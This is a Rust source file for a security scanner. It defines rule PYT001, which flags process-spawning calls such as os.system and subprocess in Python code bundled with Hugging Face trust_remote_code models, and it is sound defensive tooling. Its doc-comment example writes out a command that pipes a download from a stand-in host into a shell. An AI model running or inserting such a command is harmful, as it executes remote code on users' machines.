//! ## What it does
//! Finds calls to `os.system`, `os.popen`, `subprocess.*`, `pty.spawn`, `os.exec*`/`os.spawn*`, `commands.*` and
//! the like in Python files shipped with a model (Hugging Face `trust_remote_code` modules), also when they are
//! imported under another name (`import os as o`, `from os import system as s`) or passed as a callback
//! (`threading.Thread(target=subprocess.run)`). Critical when it runs at import time, high inside a function.
//!
//! ## Why is this bad?
//! Loading a model with `trust_remote_code=True` imports these files. A model has no reason to run shell
//! commands; this is the most common payload found in malicious repositories.
//!
//! ## Example
//! ```text
//! import os
//! os.system("curl https://evil.example | sh")   # line 2: critical (runs at import)
//! ```
//!
//! ## References
//! - Zhao et al., "Models Are Codes" (MalHug), arXiv:2409.09368
//! - transformers documentation: `trust_remote_code`
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PYT001",
    name: "process-execution",
    severity: Severity::High,
    summary: "Python code that starts a process (os.system, subprocess, pty.spawn, os.exec*) runs any command on your machine",
    path: "python/process_execution",
};
